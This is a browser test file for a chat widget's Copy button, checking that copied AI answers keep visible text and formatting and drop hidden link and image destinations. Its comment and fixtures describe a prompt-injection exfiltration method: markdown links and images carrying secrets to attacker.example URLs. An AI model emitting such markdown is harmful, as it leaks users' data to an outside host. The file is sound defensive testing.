import { afterEach, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { sse, useMockGateway } from '../testing/mock-gateway.js';
import { gatewayUrl, mountChat, shadowPart } from '../testing/mount-chat.js';

/**
 * SECURITY-NOTES §2 test 12: "Copy puts the visible text on the clipboard, not hidden URLs." A
 * prompt-injected answer hides data in link and (reference) image destinations; the widget shows
 * only "confirm your account" and a blocked-image placeholder. Pasted into Teams, Confluence or
 * Jira (which render markdown and load images), the markdown source would fetch the attacker's
 * URLs there.
 */
const gateway = useMockGateway();
afterEach(() => void delete (navigator as { clipboard?: unknown }).clipboard);

async function copyAnswerOf(answer: string): Promise<string> {
  gateway.serve(gatewayUrl, () => sse([{ type: 'text-delta', delta: answer }, { type: 'finish', reason: 'stop' }]));
  const el = await mountChat();
  await el.send('Account status?');
  let copied = '';
  Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (text: string) => void (copied = text) } });
  const copy = await vi.waitFor(() => shadowPart(el, '.tool.copy') ?? Promise.reject(new Error('no Copy yet')));
  expect(shadowPart(el, '[part~="assistant"] parley-markdown')!.textContent).not.toContain('SECRET');
  await userEvent.click(copy);
  await vi.waitFor(() => expect(copied).not.toBe(''));
  return copied;
}

describe('Copy answer', () => {
  it('copies what the person saw, without destinations they never saw', async () => {
    const copied = await copyAnswerOf(
      'Please [confirm your account](https://attacker.example/c?d=SECRET1).\n\n![status](https://attacker.example/p.png?d=SECRET2)\n\n![chart][c]\n\n[c]: https://attacker.example/r.png?d=SECRET3',
    );
    expect(copied).toContain('Please confirm your account.');
    expect(copied).toContain('status');
    expect(copied).toContain('chart');
    expect(copied).not.toMatch(/SECRET|attacker\.example|\]\(|\]:/);
  });

  it('keeps list markers, the code fence and table rows, not the code blocks’ Copy buttons', async () => {
    const copied = await copyAnswerOf(
      [
        'Steps:',
        '',
        '1. Open [the order](https://attacker.example/o?d=SECRET4)',
        '2. Run:',
        '',
        '```sql',
        'SELECT * FROM po WHERE id = 7;',
        '```',
        '',
        '- one',
        '- two',
        '',
        '| PO | status |',
        '| --- | --- |',
        '| 7 | [shipped](https://attacker.example/s?d=SECRET5) |',
      ].join('\n'),
    );
    expect(copied).toContain('1. Open the order\n2. Run:');
    expect(copied).toContain('```sql\nSELECT * FROM po WHERE id = 7;\n```');
    expect(copied).toContain('- one\n- two');
    expect(copied).toContain('| 7 | shipped |');
    expect(copied).not.toMatch(/SECRET|attacker\.example/);
    expect(copied).not.toMatch(/\bsqlCopy\b|\nCopy\n/);
  });
});
